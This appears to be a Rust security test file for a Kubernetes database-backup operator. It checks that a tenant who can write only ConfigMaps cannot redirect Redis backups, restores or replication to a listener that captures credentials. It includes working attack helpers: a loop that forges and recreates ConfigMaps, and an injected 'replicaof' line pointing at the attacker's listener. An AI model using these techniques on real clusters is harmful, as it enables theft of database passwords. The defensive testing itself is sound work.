//! A tenant who may write `ConfigMap`s, and neither Secrets nor pods, wants the password of a database. He leads our pods to a
//! server of his, which writes down what it is sent.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use causeway_api::databaserestore::RestorePhase;
use causeway_api::{DatabaseBackup, DatabaseRestore};
use k8s_openapi::api::core::v1::{ConfigMap, Pod};
use kube::api::{DeleteParams, ListParams, PostParams};
use kube::{Api, ResourceExt};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::task::JoinHandle;

use super::tenant;
use crate::backup::control_restore::ended;
use crate::backup::stage::{NAME, NEVER, Stage, WAIT_TIMEOUT};
use crate::support::Operator;
use crate::support::wait::wait_within;

/// The attacker's server.
struct Listener {
    /// Where pods reach it: `host:port`.
    address: String,
    /// The received bytes.
    heard: Arc<Mutex<Vec<u8>>>,
}

impl Listener {
    /// Listens at the address of this machine at which pods reach the emulator.
    async fn new(stage: &Stage) -> Self {
        let host =
            stage.emulator.endpoint().trim_start_matches("http://").rsplit_once(':').expect("a port").0.to_owned();
        let listener = TcpListener::bind((host.as_str(), 0)).await.expect("a port");
        let address = format!("{host}:{}", listener.local_addr().expect("an address").port());
        let heard: Arc<Mutex<Vec<u8>>> = Arc::default();
        let told = heard.clone();
        tokio::spawn(async move {
            while let Ok((mut client, _)) = listener.accept().await {
                let told = told.clone();
                tokio::spawn(async move {
                    let mut bytes = [0; 4096];
                    while let Ok(read @ 1..) = client.read(&mut bytes).await {
                        told.lock().expect("a lock").extend_from_slice(&bytes[..read]);
                        // A replica logs in to its master only after an answer.
                        client.write_all(b"+PONG\r\n").await.ok();
                    }
                });
            }
        });
        Self { address, heard }
    }

    fn heard(&self) -> String {
        String::from_utf8_lossy(&self.heard.lock().expect("a lock")).into_owned()
    }
}

/// Rewrites every `ConfigMap` of the namespace that `forge` has an answer to, again and again, as fast as it can. Each is made
/// again with the same owners and labels, and so that no user can correct it.
async fn attack(stage: &Stage, forge: impl Fn(&str) -> Option<String> + Send + 'static) -> JoinHandle<()> {
    let verbs = ["get", "list", "watch", "create", "update", "patch", "delete"];
    tenant::may(stage, "config-maps", json!([{ "apiGroups": [""], "resources": ["configmaps"], "verbs": verbs }]))
        .await;
    let api: Api<ConfigMap> = Api::namespaced(tenant::client(stage).await, &stage.namespace);
    tokio::spawn(async move {
        loop {
            for found in api.list(&ListParams::default()).await.map(|list| list.items).unwrap_or_default() {
                let data = found.data.clone().unwrap_or_default();
                let forged: BTreeMap<String, String> =
                    data.iter().filter_map(|(key, text)| Some((key.clone(), forge(text)?))).collect();
                if forged.is_empty() {
                    continue;
                }
                let name = found.name_any();
                let labels = found.metadata.labels.clone();
                let owners = found.metadata.owner_references.clone();
                let mut theirs = ConfigMap { data: Some(forged), immutable: Some(true), ..ConfigMap::default() };
                theirs.metadata.name = Some(name.clone());
                (theirs.metadata.labels, theirs.metadata.owner_references) = (labels, owners);
                api.delete(&name, &DeleteParams::default()).await.ok();
                api.create(&PostParams::default(), &theirs).await.ok();
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_writer_of_config_maps_gets_no_password_by_a_plan() {
    let stage = Stage::new("security-plans").await;
    let _operator = Operator::start(&stage).await;
    stage.redis_of("cache", json!({ "replicas": 0, "auth": { "enabled": true } })).await;
    let listener = Listener::new(&stage).await;
    let theirs = listener.address.clone();
    let host = format!("cache.{}.svc:6379", stage.namespace);
    let replicas = format!("cache-replicas.{}.svc:6379", stage.namespace);
    let forge = move |text: &str| {
        let forged = text.replace(&host, &theirs).replace(&replicas, &theirs);
        (text.contains("\"server\"") && forged != text).then_some(forged)
    };
    let attacker = attack(&stage, forge).await;
    let source = json!({ "redis": { "name": "cache" } });
    stage.create::<DatabaseBackup>(NAME, json!({ "schedule": NEVER, "source": source })).await;
    stage.backup_now("one").await;
    stage.has_backups(1).await;
    assert_eq!(listener.heard(), "", "of a backup");
    // Its plan may be too long for the template of a pod, so it is in a `ConfigMap`. The restore does not go on with another.
    let spec = json!({ "from": { "backup": NAME }, "target": source, "force": true });
    stage.create::<DatabaseRestore>("back", spec).await;
    let status = ended(&stage, "back").await;
    assert_eq!(listener.heard(), "", "of a restore: {status:?}");
    let message = status.message.unwrap_or_default();
    assert_eq!(status.phase, RestorePhase::Failed, "the attacker is faster than a pod: {message}");
    assert!(message.contains("PlanChanged") && message.contains("another client changed it"), "{message}");
    attacker.abort();
    let spec = json!({ "from": { "backup": NAME }, "target": source, "force": true });
    stage.create::<DatabaseRestore>("again", spec).await;
    let status = ended(&stage, "again").await;
    assert_eq!(status.phase, RestorePhase::Succeeded, "{status:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_writer_of_config_maps_chooses_no_redis_master() {
    let stage = Stage::new("security-settings").await;
    let _operator = Operator::start(&stage).await;
    stage.redis_of("cache", json!({ "replicas": 0, "auth": { "enabled": true } })).await;
    let listener = Listener::new(&stage).await;
    let follows = format!("replicaof {}\n", listener.address.replace(':', " "));
    let forge =
        move |text: &str| (text.contains("appendonly") && !text.contains(&follows)).then(|| format!("{text}{follows}"));
    let attacker = attack(&stage, forge).await;
    let pods = stage.api::<Pod>();
    let before = pods.get("cache-0").await.expect("the pod").uid();
    pods.delete("cache-0", &DeleteParams::default()).await.expect("the deletion");
    let look = || async { pods.get_opt("cache-0").await.expect("an answer") };
    let is_ready = |pod: &Option<Pod>| {
        let status = pod.as_ref().filter(|pod| pod.uid() != before).and_then(|pod| pod.status.as_ref());
        let conditions = status.and_then(|status| status.conditions.as_ref()).into_iter().flatten();
        conditions.into_iter().any(|it| it.type_ == "Ready" && it.status == "True")
    };
    wait_within(WAIT_TIMEOUT, "another pod", look, is_ready).await;
    assert_eq!(listener.heard(), "", "the node logged in to the attacker's server");
    attacker.abort();
}
